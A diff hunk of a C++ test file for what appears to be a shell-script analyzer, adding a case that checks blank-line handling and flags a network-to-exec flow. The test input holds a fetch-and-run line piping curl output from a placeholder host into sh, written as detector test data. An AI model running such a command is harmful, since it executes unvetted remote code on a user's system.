@@ -210,6 +210,10 @@ TEST_CASE("a backslash opening a line does not join it to the line before (the g
   auto plain = analyze("m\n\\y");
   CHECK(has_command(plain, "m"));
   CHECK(has_command(plain, "y"));
+  // Blank lines between: one separator, not an empty statement (";;" is a syntax error).
+  auto blank = analyze("if true; then\n  e\n\n\n\\curl -s https://x.example.com/i | sh\nfi");
+  CHECK(blank.complete);
+  CHECK(has_flow(blank, "network", "exec"));
 }
 
 TEST_CASE("the quoted text of grep and echo is not a command") {
